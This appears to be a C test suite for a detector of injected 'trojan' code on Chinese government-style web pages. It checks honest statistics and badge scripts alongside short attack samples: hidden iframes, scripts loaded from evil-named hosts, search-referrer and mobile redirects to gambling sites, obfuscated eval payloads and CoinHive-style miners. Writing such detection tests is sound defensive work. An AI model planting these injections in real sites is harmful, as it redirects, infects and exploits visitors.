/*
 * test_trojan.c - the trojan (挂马) analyzer on malicious samples written
 * for these tests and on honest pages that look like attacks (the
 * identification badge, Baidu and CNZZ statistics, minified libraries,
 * JSON-LD, same-site mobile redirects, tab panels with video frames).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "analyze/analyze.h"
#include "analyze/js_scan.h"

static struct sw_an_rules *rules;

/* Loads the embedded rules once for the whole file. */
static int setup(void **state)
{
	struct sw_errbuf eb;

	(void)state;
	sw_errbuf_clear(&eb);
	if (sw_an_rules_load(NULL, &rules, &eb)) {
		fprintf(stderr, "rules: %s\n", eb.msg);
		return -1;
	}
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	sw_an_rules_free(rules);
	return 0;
}

/* Analyses html as the page at url (may be NULL) into f (caller cleans up). */
static void analyze(const char *html, const char *url, struct sw_findings *f)
{
	struct sw_an_page page = {0};
	struct sw_an_input in;
	struct sw_errbuf eb;

	page.url = url;
	page.raw = page.text = html;
	page.raw_len = page.text_len = strlen(html);
	sw_an_input_init(&in);
	in.page = &page;
	sw_findings_init(f);
	sw_errbuf_clear(&eb);
	assert_int_equal(sw_analyze(rules, &in, f, &eb), SW_OK);
}

/* The first finding with key, or NULL. */
static const struct sw_finding *find(const struct sw_findings *f, const char *key)
{
	for (size_t i = 0; i < f->n; i++)
		if (!strcmp(f->v[i].kind->key, key))
			return &f->v[i];
	return NULL;
}

/* Fails listing them when f holds any trojan finding of confidence >= 0.5. */
static void assert_quiet(const struct sw_findings *f)
{
	int bad = 0;

	for (size_t i = 0; i < f->n; i++) {
		if (strcmp(f->v[i].kind->family, "trojan"))
			continue;
		const char *c = f->v[i].evidence ? strstr(f->v[i].evidence, "\"confidence\"") : NULL;
		double conf = c ? atof(c + 13) : 1;
		if (conf < 0.5)
			continue;
		fprintf(stderr, "unexpected: %s %s %s\n", f->v[i].kind->key, f->v[i].title,
			f->v[i].evidence ? f->v[i].evidence : "");
		bad++;
	}
	assert_int_equal(bad, 0);
}

/* Asserts f holds key and that its evidence contains needle (may be NULL). */
static void assert_has(const struct sw_findings *f, const char *key, const char *needle)
{
	const struct sw_finding *x = find(f, key);

	if (!x) {
		fprintf(stderr, "missing %s; have:\n", key);
		for (size_t i = 0; i < f->n; i++)
			fprintf(stderr, "  %s %s\n", f->v[i].kind->key, f->v[i].evidence);
	}
	assert_non_null(x);
	if (needle) {
		assert_non_null(x->evidence);
		if (!strstr(x->evidence, needle))
			fprintf(stderr, "evidence %s lacks %s\n", x->evidence, needle);
		assert_non_null(strstr(x->evidence, needle));
	}
}

#define PAGE(head, body)                                                             \
	"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>某某市人民政府</title>" \
	head "</head><body><div class=\"nav\"><a href=\"/\">首页</a><a href=\"/xxgk/\">信息公开</a>" \
	"</div><p>政务动态 今日要闻</p>" body "<div class=\"footer\">主办单位：某某市人民政府办公室 " \
	"京ICP备05070218号</div></body></html>"

#define URL "http://www.example.gov.cn/index.html"

/* ---- honest pages ---- */

static const char conac[] =
	"<script type=\"text/javascript\">document.write(unescape(\"%3Cspan id='_ideConac' "
	"%3E%3C/span%3E%3Cscript src='https://dcs.conac.cn/js/33/000/0000/60617010/"
	"CA330000000606170100002.js' type='text/javascript'%3E%3C/script%3E\"));</script>";

static const char baidu[] =
	"<script>var _hmt = _hmt || [];(function() {var hm = document.createElement(\"script\");"
	"hm.src = \"https://hm.baidu.com/hm.js?0123456789abcdef0123456789abcdef\";"
	"var s = document.getElementsByTagName(\"script\")[0];s.parentNode.insertBefore(hm, s);"
	"})();</script>";

static const char cnzz[] =
	"<script type=\"text/javascript\">var cnzz_protocol = ((\"https:\" == "
	"document.location.protocol) ? \"https://\" : \"http://\");document.write(unescape("
	"\"%3Cspan id='cnzz_stat_icon_1279852'%3E%3C/span%3E%3Cscript src='\" + cnzz_protocol + "
	"\"s4.cnzz.com/z_stat.php%3Fid%3D1279852%26show%3Dpic' type='text/javascript'%3E"
	"%3C/script%3E\"));</script>"
	"<script>document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1000'%3E%3C/span%3E"
	"%3Cscript src='https://s9.cnzz.com/z_stat.php%3Fid%3D1000' type='text/javascript'%3E"
	"%3C/script%3E\"));</script>";

static const char jiucuo[] =
	"<script id=\"_jiucuo_\" sitecode=\"3300000001\" "
	"src=\"https://zfwzgl.www.gov.cn/exposure/jiucuo.js\"></script>";

static const char cdn[] =
	"<script src=\"https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js\"></script>"
	"<script src=\"https://cdn.bootcdn.net/ajax/libs/vue/2.6.14/vue.min.js\"></script>"
	"<script src=\"//code.jquery.com/jquery-1.12.4.min.js\"></script>"
	"<script src=\"/js/common.js\"></script><script src=\"js/menu.js\"></script>";

/* A slice in the style of minified libraries: Function, fromCharCode,
 * innerHTML with markup, location reads, \u escapes of Chinese text. */
static const char minified[] =
	"<script>!function(e,t){\"use strict\";var n=[],r=Object.getPrototypeOf,i=n.slice,"
	"o=function(e){return String.fromCharCode(55296|e>>10,56320|1023&e)},"
	"a=new Function(\"return this\")(),s=/[\"'\\\\]/g,u=e.location.href,"
	"l=\"\\u5173\\u4e8e\\u6211\\u4eec\\u8054\\u7cfb\\u6211\\u4eec\\u7f51\\u7ad9\\u5730\\u56fe"
	"\\u5e2e\\u52a9\\u4e2d\\u5fc3\\u8bbf\\u95ee\\u7edf\\u8ba1\\u4fe1\\u606f\\u516c\\u5f00\";"
	"t.innerHTML=\"<a href='#'></a><select id='x'><option selected=''></option></select>\";"
	"var c=[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26,27,28,29,"
	"30,31,32,33,34,35,36,37,38,39,40,41,42,43,44,45];"
	"e.tab=function(){$(this).click(function(){window.open(\"https://www.12377.cn/\")})}"
	"}(window,document);</script>";

static const char jsonld[] =
	"<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\","
	"\"@type\":\"GovernmentOrganization\",\"url\":\"https://www.other.com/\","
	"\"logo\":\"https://img.other.com/logo.png\"}</script>";

static const char mobile_same[] =
	"<script>function browserRedirect(){var sUserAgent=navigator.userAgent.toLowerCase();"
	"var bIsIpad=sUserAgent.match(/ipad/i)==\"ipad\";var bIsIphoneOs=sUserAgent.match(/iphone os/i)"
	"==\"iphone os\";var bIsAndroid=sUserAgent.match(/android/i)==\"android\";"
	"if(bIsIpad||bIsIphoneOs||bIsAndroid){window.location.href=\"http://m.example.gov.cn/\";}}"
	"browserRedirect();</script>"
	"<script>if(/Android|iPhone|Mobile/i.test(navigator.userAgent)){location.replace("
	"location.href.replace('www.','m.'))}</script>";

static const char lang_switch[] =
	"<a href=\"javascript:void(0)\" onclick=\"location.href='http://en.example.gov.cn/'\">English</a>"
	"<select onchange=\"window.open(this.value)\"><option value=\"http://www.beijing.gov.cn\">"
	"北京</option></select>"
	"<script>function goProvince(){window.location.href=\"http://www.zj.gov.cn/\";}"
	"function toWeibo(){window.open(\"https://weibo.com/examplegov\");}"
	"$('#wx').click(function(){location.href='https://mp.weixin.qq.com/s/abc'});</script>";

static const char tab_video[] =
	"<style>.tab-panel{display:none}.tab-panel.on{display:block}</style>"
	"<div class=\"tab-panel on\"><h3>工作动态</h3><p>市政府召开常务会议</p></div>"
	"<div class=\"tab-panel\"><h3>视频新闻</h3><p>市长接受专访 解读政府工作报告要点</p>"
	"<iframe src=\"https://v.qq.com/txp/iframe/player.html?vid=x0\" width=\"640\" "
	"height=\"360\"></iframe></div>"
	"<div class=\"tab-panel\"><h3>视频专栏</h3><p>文明城市创建 宣传片 专题报道</p>"
	"<iframe src=\"https://video.example-tv.com/player?id=9\" width=\"640\" "
	"height=\"360\"></iframe></div>"
	"<iframe name=\"hiddenFrame\" src=\"about:blank\" style=\"display:none\"></iframe>"
	"<iframe src=\"/counter.jsp\" width=\"0\" height=\"0\"></iframe>"
	"<noscript><iframe src=\"https://www.googletagmanager.com/ns.html?id=GTM-XXXX\" "
	"height=\"0\" width=\"0\" style=\"display:none;visibility:hidden\"></iframe></noscript>";

static const char pushes[] =
	"<script>(function(){var bp=document.createElement('script');var curProtocol="
	"window.location.protocol.split(':')[0];if(curProtocol==='https'){bp.src="
	"'https://zz.bdstatic.com/linksubmit/push.js';}else{bp.src="
	"'http://push.zhanzhang.baidu.com/push.js';}var s=document.getElementsByTagName("
	"\"script\")[0];s.parentNode.insertBefore(bp,s);})();</script>"
	"<script>(function(){var src=\"https://jspassport.ssl.qhimg.com/11.0.1.js?d182b3f2\";"
	"document.write('<script src=\"'+src+'\" id=\"sozz\"><\\/script>');})();</script>"
	"<script>if(window.location.pathname=='/'){var path='/static';document.write("
	"'<script src=\"'+path+'/js/index.js\"><\\/script>')}</script>";

static const char refresh_self[] =
	"<meta http-equiv=\"refresh\" content=\"300\">"
	"<meta http-equiv=\"Refresh\" content=\"0; url=http://www.example.gov.cn/new/\">";

static void honest_badge_and_stats(void **state)
{
	struct sw_findings f;
	(void)state;

	analyze(PAGE("", "<div class=\"badge\">"
		     "<span id='_span_jiucuo'></span></div>"), URL, &f);
	assert_quiet(&f);
	sw_findings_cleanup(&f);

	static char page[16384];
	snprintf(page, sizeof page, PAGE("%s%s", "%s%s%s"), baidu, jiucuo, conac, cnzz, cdn);
	analyze(page, URL, &f);
	assert_quiet(&f);
	assert_null(find(&f, "trojan.foreign_script"));
	sw_findings_cleanup(&f);
	/* Offline, without the page's URL, the same page stays quiet. */
	analyze(page, NULL, &f);
	assert_quiet(&f);
	sw_findings_cleanup(&f);
}

static void honest_code(void **state)
{
	static char page[16384];
	struct sw_findings f;
	(void)state;

	snprintf(page, sizeof page, PAGE("%s%s%s", "%s%s%s%s"), minified, jsonld, refresh_self,
		 mobile_same, lang_switch, tab_video, pushes);
	analyze(page, URL, &f);
	assert_quiet(&f);
	sw_findings_cleanup(&f);
}

static void unknown_host_is_medium(void **state)
{
	struct sw_findings f;
	(void)state;

	analyze(PAGE("<script src=\"https://static.example-partner.com/widget.js\"></script>", ""),
		URL, &f);
	/* Not in the allow lists and no baseline to say the site uses it:
	 * reported, at medium severity (rules/allow/ takes a provider in). */
	assert_has(&f, "trojan.foreign_script", "unknown-host");
	for (size_t i = 0; i < f.n; i++)
		if (!strcmp(f.v[i].kind->key, "trojan.foreign_script"))
			assert_int_equal(f.v[i].sev, SW_SEV_MEDIUM);
	sw_findings_cleanup(&f);
}

/* ---- attacks ---- */

/* Injections that hide behind familiar names, variables and meta tags. */
static void attack_disguised(void **state)
{
	struct sw_findings f;
	(void)state;

	analyze(PAGE("<script src=\"https://code.jsquery37.com/a.js\"></script>", ""), URL, &f);
	assert_has(&f, "trojan.foreign_script", "look-alike-host");
	sw_findings_cleanup(&f);
	analyze(PAGE("", "<script>var u='cloud.x-js.example';var h='/a.js';"
		     "document.write('<script src=\"http://'+u+h+'\"><\\/script>');</script>"), URL, &f);
	assert_has(&f, "trojan.doc_write", "computed host");
	sw_findings_cleanup(&f);
	analyze(PAGE("", "<script>var f=document.referrer;if(f.indexOf(\"baidu.com\")>-1){document.write("
		     "'<meta http-equiv=\"refresh\" content=\"0;url=http://www.lhc6688.top/\">')}</script>"),
		URL, &f);
	assert_has(&f, "trojan.search_redirect", "lhc6688.top");
	sw_findings_cleanup(&f);
	/* The site's own host written from location is honest. */
	analyze(PAGE("", "<script>document.write('<script src=\"http://'+location.host+'/js/a.js\"><\\/script>');"
		     "</script>"), URL, &f);
	assert_quiet(&f);
	sw_findings_cleanup(&f);
}

static void attack_hidden_iframe(void **state)
{
	struct sw_findings f;
	(void)state;

	analyze(PAGE("", "<iframe src=\"http://www.evil-bet.com/a.htm\" width=\"0\" height=\"0\" "
		     "frameborder=\"0\"></iframe>"), URL, &f);
	assert_has(&f, "trojan.hidden_iframe", "evil-bet.com");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<iframe src=\"http://x.evil.cn/\" style=\"display:none\"></iframe>"), URL,
		&f);
	assert_has(&f, "trojan.hidden_iframe", "display-none");
	sw_findings_cleanup(&f);

	analyze(PAGE("<style>.hf{visibility:hidden;width:0;height:0}</style>",
		     "<iframe class=\"hf\" src=\"http://cc.evil.net/\"></iframe>"), URL, &f);
	assert_has(&f, "trojan.hidden_iframe", "evil.net");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<div style=\"position:absolute;left:-9999px;top:-9999px\">"
		     "<iframe src=\"http://hack.example.net/in.html\" width=\"500\" "
		     "height=\"500\"></iframe></div>"), URL, &f);
	assert_has(&f, "trojan.hidden_iframe", "hack.example.net");
	sw_findings_cleanup(&f);
}

static void attack_foreign_script(void **state)
{
	struct sw_findings f;
	(void)state;

	/* Appended after </html>, where injectors put it. */
	analyze(PAGE("", "") "<script src=\"http://js.tongji-cdn.net/t.js\"></script>", URL, &f);
	assert_has(&f, "trojan.foreign_script", "outside-html");
	sw_findings_cleanup(&f);

	analyze(PAGE("<script type=\"text/javascript\" src=\"https://cdn-js.top/jquery.min.js\">"
		     "</script>", ""), URL, &f);
	assert_has(&f, "trojan.foreign_script", "cheap-tld");
	sw_findings_cleanup(&f);

	analyze(PAGE("<script src=\"http://js.365bet-vip.com/tj.js\"></script>", ""), URL, &f);
	assert_has(&f, "trojan.foreign_script", "spam-host");
	sw_findings_cleanup(&f);
}

static void attack_search_redirect(void **state)
{
	struct sw_findings f;
	(void)state;

	analyze(PAGE("<script>var r=document.referrer.toLowerCase();if(r.indexOf(\"baidu.com\")>-1"
		     "||r.indexOf(\"sogou\")>-1||r.indexOf(\"so.com\")>-1){window.location.href="
		     "\"http://www.3658bet.com/?from=gov\";}</script>", ""), URL, &f);
	assert_has(&f, "trojan.search_redirect", "3658bet.com");
	sw_findings_cleanup(&f);

	/* Regex test and a target kept in a variable. */
	analyze(PAGE("", "<script>var u='https://pj.8888cp.net/';if(/(baidu|sm\\.cn|bing|google)"
		     "\\./i.test(document.referrer)){setTimeout(function(){top.location=u},10)}"
		     "</script>"), URL, &f);
	assert_has(&f, "trojan.search_redirect", "8888cp.net");
	sw_findings_cleanup(&f);

	/* Search visitors get a full-page frame instead. */
	analyze(PAGE("", "<script>if(document.referrer.match(/baidu|sogou|360|sm.cn/)){document."
		     "write('<iframe src=\"http://sf.evil-game.com/\" style=\"position:fixed;"
		     "width:100%;height:100%\"></iframe>')}</script>"), URL, &f);
	assert_has(&f, "trojan.search_redirect", NULL);
	sw_findings_cleanup(&f);
}

static void attack_mobile_redirect(void **state)
{
	struct sw_findings f;
	(void)state;

	analyze(PAGE("<script>function browserRedirect(){var ua=navigator.userAgent.toLowerCase();"
		     "if(ua.match(/iphone|android|mobile|ipad/i)){window.location.href="
		     "\"http://m.xsj-sf.com/\";}}browserRedirect();</script>", ""), URL, &f);
	assert_has(&f, "trojan.mobile_redirect", "xsj-sf.com");
	sw_findings_cleanup(&f);
}

static void attack_redirect(void **state)
{
	struct sw_findings f;
	(void)state;

	analyze(PAGE("<meta http-equiv=\"refresh\" content=\"0;URL='http://www.bocai-888.com/'\">",
		     ""), URL, &f);
	assert_has(&f, "trojan.redirect", "meta-refresh");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<script>setTimeout(function(){location.replace(\"https://\"+"
		     "\"www.evil-casino.com/\")},3000);</script>"), URL, &f);
	assert_has(&f, "trojan.redirect", "evil-casino.com");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<script>setTimeout(\"top.location.href='http://tz.evil.cc/'\",500);"
		     "</script>"), NULL, &f);
	assert_has(&f, "trojan.redirect", "evil.cc");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<script>window.location = 'http://spam.example.org/p.html';</script>"),
		URL, &f);
	assert_has(&f, "trojan.redirect", "spam.example.org");
	sw_findings_cleanup(&f);

	analyze("<html><body onload=\"top.location.href='http://evil.example.com/'\"><p>x</p>"
		"</body></html>", URL, &f);
	assert_has(&f, "trojan.redirect", NULL);
	sw_findings_cleanup(&f);
}

static void attack_doc_write(void **state)
{
	struct sw_findings f;
	(void)state;

	analyze(PAGE("", "<script>document.writeln(\"<scr\"+\"ipt src='http://js.evil-stat.com/"
		     "x.js'></scr\"+\"ipt>\");</script>"), URL, &f);
	assert_has(&f, "trojan.doc_write", "evil-stat.com");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<script>document.write(unescape(\"%3Cscript src='http://a.b-evil.com/"
		     "c.js'%3E%3C/script%3E\"));</script>"), URL, &f);
	assert_has(&f, "trojan.doc_write", "b-evil.com");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<script>var s=document.createElement('script');s.src='http://x.evil.ru/"
		     "m.js';document.body.appendChild(s);</script>"), URL, &f);
	assert_has(&f, "trojan.doc_write", "create-element");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<script>document.getElementById('f').innerHTML='<iframe src=\"http://"
		     "ads.evil.com/\" width=\"0\" height=\"0\"></iframe>';</script>"), URL, &f);
	assert_has(&f, "trojan.doc_write", "ads.evil.com");
	assert_has(&f, "trojan.yara", "inject_hidden_frame_write");
	sw_findings_cleanup(&f);
}

static void attack_obfuscated(void **state)
{
	struct sw_findings f;
	(void)state;

	analyze(PAGE("", "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''."
		     "replace(/^/,String)){while(c--)d[c]=k[c]||c;k=[function(e){return d[e]}];"
		     "e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp("
		     "'\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1(\"2\")',3,3,'document|write|x'"
		     ".split('|'),0,{}))</script>"), URL, &f);
	assert_has(&f, "trojan.obfuscated", "packer");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<script>eval(unescape('%64%6F%63%75%6D%65%6E%74%2E%77%72%69%74%65%28"
		     "%22%3C%69%66%72%61%6D%65%22%29'));</script>"), URL, &f);
	assert_has(&f, "trojan.obfuscated", "eval-decode");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<script>var _a=String.fromCharCode(100,111,99,117,109,101,110,116,46,"
		     "119,114,105,116,101,40,39,60,115,99,114,105,112,116,32,115,114,99,61,104,116,"
		     "116,112,58,47,47,101,118,105,108,46,99,111,109,47,120,46,106,115,62,39,41);"
		     "window[\"ev\"+\"al\"](_a);</script>"), URL, &f);
	assert_has(&f, "trojan.obfuscated", "charcode-array");
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<script>var k=\"\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74\\x2e\\x6c"
		     "\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e\\x2e\\x68\\x72\\x65\\x66\\x3d\\x27\";"
		     "</script>"), URL, &f);
	assert_has(&f, "trojan.obfuscated", "encoded-string");
	assert_has(&f, "trojan.yara", "obf_hex_tag");
	sw_findings_cleanup(&f);
}

static void attack_miner(void **state)
{
	struct sw_findings f;
	(void)state;

	analyze(PAGE("<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>",
		     "<script>var miner=new CoinHive.Anonymous('SITEKEY0123456789abcdef',"
		     "{throttle:0.3});miner.start();</script>"), URL, &f);
	assert_has(&f, "trojan.miner", NULL);
	sw_findings_cleanup(&f);

	analyze(PAGE("", "<script>var _client = new Client.Anonymous('0f3a9c1e2b7d4c5a6b8e9f0a1b2c3d"
		     "4e', {throttle: 0.5, c: 'w'});_client.start();</script>"), URL, &f);
	assert_has(&f, "trojan.miner", NULL);
	sw_findings_cleanup(&f);
}

/* Offsets point at the script text in the page. */
static void evidence_offsets(void **state)
{
	static const char page[] = PAGE("", "<script>window.location = 'http://spam.example.org/';"
					"</script>");
	struct sw_findings f;
	char needle[64];
	(void)state;

	analyze(page, URL, &f);
	assert_has(&f, "trojan.redirect", NULL);
	const char *at = strstr(page, "location = ");
	snprintf(needle, sizeof needle, "\"offset\":%ld", (long)(at - page));
	const struct sw_finding *x = find(&f, "trojan.redirect");
	if (!strstr(x->evidence, needle))
		fprintf(stderr, "want %s in %s\n", needle, x->evidence);
	assert_non_null(strstr(x->evidence, needle));
	sw_findings_cleanup(&f);
}

/* Hostile input: huge and unterminated scripts are bounded. */
static void hostile_scripts(void **state)
{
	size_t n = 700 * 1024;
	char *page = malloc(n + 200);
	struct sw_findings f;
	(void)state;

	assert_non_null(page);
	strcpy(page, "<html><body><script>var a='");
	size_t l = strlen(page);
	memset(page + l, 'A', n);
	strcpy(page + l + n, "';</script><script>\"\\x41\\</script></body></html>");
	analyze(page, URL, &f);
	assert_has(&f, "analysis.limit", "script-too-large");
	sw_findings_cleanup(&f);
	free(page);
}

/* ---- js_scan ---- */

static void js_expr_strings(void **state)
{
	char out[256];
	(void)state;

	sw_js_expr_strings("\"http://\" + 'a.com/\\x78.js'; foo()", 34, out, sizeof out, NULL);
	assert_string_equal(out, "http://a.com/x.js");
	sw_js_expr_strings("x ? 'https://a/' : 'http://b/', 1)", 34, out, sizeof out, NULL);
	assert_string_equal(out, "https://a/\nhttp://b/");
	char pct[] = "%3Cscript%20src%3D%27x%27%3E%u4e2d";
	sw_js_pct_decode(pct, strlen(pct));
	assert_string_equal(pct, "<script src='x'>中");
	char host[64];
	assert_string_equal(sw_js_url_host(" HTTPS://u:p@Evil.COM.:8080/x", host, sizeof host),
			    "evil.com");
	assert_string_equal(sw_js_url_host("/relative", host, sizeof host), "");
	assert_string_equal(sw_js_url_host("//cdn.x.cn/a", host, sizeof host), "cdn.x.cn");
}

static void js_stats(void **state)
{
	struct sw_js_stats st;
	static const char s[] = "var a=/'/g, b='\\x41\\x42\\x43', c=[1, 2,3 ,4], d=\"\\u4e2d\\u6587\";";
	(void)state;

	sw_js_stats(s, strlen(s), &st);
	assert_int_equal(st.esc_run, 3);
	assert_int_equal(st.num_list, 4);
	assert_int_equal(st.n_strings, 2);
	sw_js_stats("", 0, &st);
	assert_int_equal(st.n_strings, 0);
	sw_js_stats("'unterminated", 13, &st);
	assert_int_equal(st.n_strings, 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(js_expr_strings),
		cmocka_unit_test(js_stats),
		cmocka_unit_test(honest_badge_and_stats),
		cmocka_unit_test(honest_code),
		cmocka_unit_test(unknown_host_is_medium),
		cmocka_unit_test(attack_hidden_iframe),
		cmocka_unit_test(attack_disguised),
		cmocka_unit_test(attack_foreign_script),
		cmocka_unit_test(attack_search_redirect),
		cmocka_unit_test(attack_mobile_redirect),
		cmocka_unit_test(attack_redirect),
		cmocka_unit_test(attack_doc_write),
		cmocka_unit_test(attack_obfuscated),
		cmocka_unit_test(attack_miner),
		cmocka_unit_test(evidence_offsets),
		cmocka_unit_test(hostile_scripts),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
